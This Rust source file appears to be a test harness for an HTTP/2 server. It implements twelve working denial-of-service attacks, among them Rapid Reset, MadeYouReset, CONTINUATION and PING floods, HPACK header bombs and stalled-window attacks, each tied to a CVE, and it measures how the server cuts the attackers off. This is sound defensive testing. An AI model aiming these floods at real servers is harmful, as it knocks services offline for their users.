//! Attackers at the level of frames: many connections that one thread drives.

use std::cell::{Cell, RefCell};
use std::io;
use std::net::SocketAddr;
use std::rc::Rc;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::net::tcp::{ReadHalf, WriteHalf};
use tokio::task::{JoinSet, LocalSet};
use tokio::time::{sleep, sleep_until, timeout};

use crate::frames::{
    CONTINUATION, DATA, END, HEADERS, PING, PREFACE, RST_STREAM, WHOLE, WINDOW_UPDATE, asking, block, frame,
    get, settings,
};

/// All attackers together open at most so many connections a second.
const CONNECTS_PER_SECOND: u32 = 500;

/// All attackers together send at most so much a second.
const BYTES_PER_SECOND: u32 = 20_000_000;

/// Streams of one piece of an attack.
const STREAMS: u32 = 100;

/// The longest that an attacker says nothing.
const PAUSE: Duration = Duration::from_millis(100);

/// After what time a stream has begun to be served. Much less would be a flood of requests that no core can serve,
/// whatever becomes of them.
const BEGUN: Duration = Duration::from_millis(50);

/// What one attacker does.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Attack {
    /// One request, then nothing more.
    Idle,
    /// Opens streams and resets them at once (CVE-2023-44487).
    RapidReset,
    /// The same, once they have begun to be served.
    LateReset,
    /// Makes the other side reset them (CVE-2025-8671).
    MadeYouReset,
    /// A head without end (CVE-2024-27316).
    Continuation,
    /// PINGs without end (CVE-2019-9512).
    Pings,
    /// SETTINGS without end (CVE-2019-9515).
    Settings,
    /// DATA without data (CVE-2019-9518).
    EmptyData,
    /// A few octets that stand for heads of 72 KiB (CVE-2016-6581).
    HeadBomb,
    /// The same for a head of megabytes.
    HugeHeadBomb,
    /// Asks for much on many streams and never opens their windows (CVE-2019-9517, CVE-2019-9511).
    StalledWindows,
    /// Opens the windows, and does not read from the socket.
    ShutSocket,
}

impl Attack {
    pub(super) const ALL: [Self; 12] = [
        Self::Idle,
        Self::RapidReset,
        Self::LateReset,
        Self::MadeYouReset,
        Self::Continuation,
        Self::Pings,
        Self::Settings,
        Self::EmptyData,
        Self::HeadBomb,
        Self::HugeHeadBomb,
        Self::StalledWindows,
        Self::ShutSocket,
    ];

    /// Whether it is we who find it a flood, and count it: else it is the library, or a deadline.
    pub(super) fn is_counted(self) -> bool {
        matches!(self, Self::RapidReset | Self::LateReset | Self::Pings | Self::Settings | Self::HeadBomb)
    }

    /// What is said first.
    fn opening(self) -> Vec<u8> {
        let first = match self {
            Self::StalledWindows => settings(&[(1, 0), (4, 0)]),
            Self::ShutSocket => {
                let wide = frame(WINDOW_UPDATE, 0, 0, &0x7000_0000_u32.to_be_bytes());
                [settings(&[(1, 0), (4, 0x7fff_ffff)]), wide].concat()
            }
            _ => settings(&[(1, 0)]),
        };
        let request = match self {
            Self::Idle => get(1, "/small"),
            Self::Continuation => frame(HEADERS, END, 1, &block(&asking("GET", "/small"))),
            Self::EmptyData => frame(HEADERS, WHOLE, 1, &block(&asking("POST", "/upload"))),
            Self::HeadBomb | Self::HugeHeadBomb => {
                // One field of 4000 octets, for the table.
                let mut first = block(&asking("GET", "/small"));
                first.extend([0x40, 1, b'x', 0x7f, 0xa1, 0x1e]);
                first.extend([b'y'; 4000]);
                frame(HEADERS, END | WHOLE, 1, &first)
            }
            Self::StalledWindows | Self::ShutSocket => {
                (0..128).flat_map(|n| get(2 * n + 1, "/large")).collect()
            }
            _ => Vec::new(),
        };
        [PREFACE, &first, &request].concat()
    }

    /// What is said again and again; nothing where it is silence that attacks. Streams are numbered from `first`.
    fn piece(self, first: u32) -> Vec<u8> {
        let streams = (0..STREAMS).map(|n| first + 2 * n);
        let heads = |references: usize| -> Vec<u8> {
            let mut more = block(&asking("GET", "/small"));
            more.extend(vec![0xbe; references]);
            streams.clone().flat_map(|stream| frame(HEADERS, END | WHOLE, stream, &more)).collect()
        };
        let cancel = |stream| frame(RST_STREAM, 0, stream, &[0, 0, 0, 8]);
        match self {
            Self::Idle | Self::StalledWindows | Self::ShutSocket => Vec::new(),
            Self::RapidReset => {
                streams.flat_map(|stream| [get(stream, "/small"), cancel(stream)].concat()).collect()
            }
            Self::LateReset => {
                let before = streams.clone().filter_map(|s| s.checked_sub(2 * STREAMS).filter(|s| *s > 1));
                let cancelled: Vec<u8> = before.flat_map(cancel).collect();
                [cancelled, streams.flat_map(|stream| get(stream, "/small")).collect()].concat()
            }
            Self::MadeYouReset => {
                let post = |stream| frame(HEADERS, WHOLE, stream, &block(&asking("POST", "/upload")));
                let wrong = |stream| frame(WINDOW_UPDATE, 0, stream, &[0; 4]);
                streams.flat_map(|stream| [post(stream), wrong(stream)].concat()).collect()
            }
            Self::Continuation => frame(CONTINUATION, 0, 1, &block(&[("x", "y".repeat(1000))])).repeat(10),
            Self::Pings => frame(PING, 0, 0, &[0; 8]).repeat(200),
            Self::Settings => settings(&[(4, 65_535)]).repeat(200),
            Self::EmptyData => frame(DATA, 0, 1, &[]).repeat(200),
            Self::HeadBomb => heads(18),
            Self::HugeHeadBomb => heads(4_000),
        }
    }
}

/// What became of the attackers.
#[derive(Debug, Default)]
pub(super) struct Cut {
    /// Connections that were ended.
    pub(super) ended: u64,
    /// How long the longest of them lasted.
    pub(super) longest: Duration,
    /// Connections that were still open at the end.
    pub(super) left: u64,
}

struct Crowd {
    address: SocketAddr,
    attack: Attack,
    stop: Arc<AtomicBool>,
    next_connect: Cell<Instant>,
    next_send: Cell<Instant>,
    cut: RefCell<Cut>,
}

/// Attacks until it is told to stop, then waits until everybody has been cut off, but no longer than `most`.
pub(super) fn assail(
    address: SocketAddr,
    attack: Attack,
    size: usize,
    stop: Arc<AtomicBool>,
    most: Duration,
) -> Cut {
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
    let now = Instant::now();
    let crowd = Rc::new(Crowd {
        address,
        attack,
        stop: Arc::clone(&stop),
        next_connect: Cell::new(now),
        next_send: Cell::new(now),
        cut: RefCell::default(),
    });
    let local = LocalSet::new();
    local.block_on(&runtime, async {
        let mut attackers = JoinSet::new();
        for _ in 0..size {
            attackers.spawn_local(Rc::clone(&crowd).attacker());
        }
        while !stop.load(Ordering::SeqCst) {
            sleep(PAUSE).await;
        }
        let all = async { while attackers.join_next().await.is_some() {} };
        let _ = timeout(most, all).await;
        crowd.cut.borrow_mut().left = attackers.len() as u64;
    });
    drop(local);
    crowd.cut.take()
}

impl Crowd {
    async fn attacker(self: Rc<Self>) {
        while !self.stop.load(Ordering::SeqCst) {
            let due = self.next_connect.get().max(Instant::now());
            self.next_connect.set(due + Duration::from_secs(1) / CONNECTS_PER_SECOND);
            sleep_until(due.into()).await;
            let Ok(mut stream) = TcpStream::connect(self.address).await else { continue };
            let begun = Instant::now();
            let (reading, writing) = stream.split();
            // An error is the end.
            let _ = tokio::select! {
                ended = self.watch(reading) => ended,
                refused = self.strike(writing) => refused,
            };
            let mut cut = self.cut.borrow_mut();
            cut.ended += 1;
            cut.longest = cut.longest.max(begun.elapsed());
        }
    }

    /// Attacks until nothing more can be said.
    async fn strike(&self, mut stream: WriteHalf<'_>) -> io::Result<()> {
        self.send(&mut stream, &self.attack.opening()).await?;
        let mut first = 3;
        loop {
            let piece = self.attack.piece(first);
            first += 2 * STREAMS;
            if piece.is_empty() {
                std::future::pending::<()>().await;
            }
            self.send(&mut stream, &piece).await?;
            if self.attack == Attack::LateReset {
                sleep(BEGUN).await;
            }
        }
    }

    /// Sends, no faster than all of them may.
    async fn send(&self, stream: &mut WriteHalf<'_>, bytes: &[u8]) -> io::Result<()> {
        let due = self.next_send.get().max(Instant::now());
        let bytes_long = u32::try_from(bytes.len()).unwrap();
        self.next_send.set(due + Duration::from_secs(1) * bytes_long / BYTES_PER_SECOND);
        sleep_until(due.into()).await;
        stream.write_all(bytes).await
    }

    /// Reads to the end, or where that is the attack only looks whether there is one.
    async fn watch(&self, mut stream: ReadHalf<'_>) -> io::Result<()> {
        if self.attack == Attack::ShutSocket {
            // What has arrived could be read for long after a reset.
            while stream.as_ref().take_error()?.is_none() {
                sleep(PAUSE).await;
            }
            return Ok(());
        }
        let mut thrown_away = [0; 16 * 1024];
        while stream.read(&mut thrown_away).await? > 0 {}
        Ok(())
    }
}
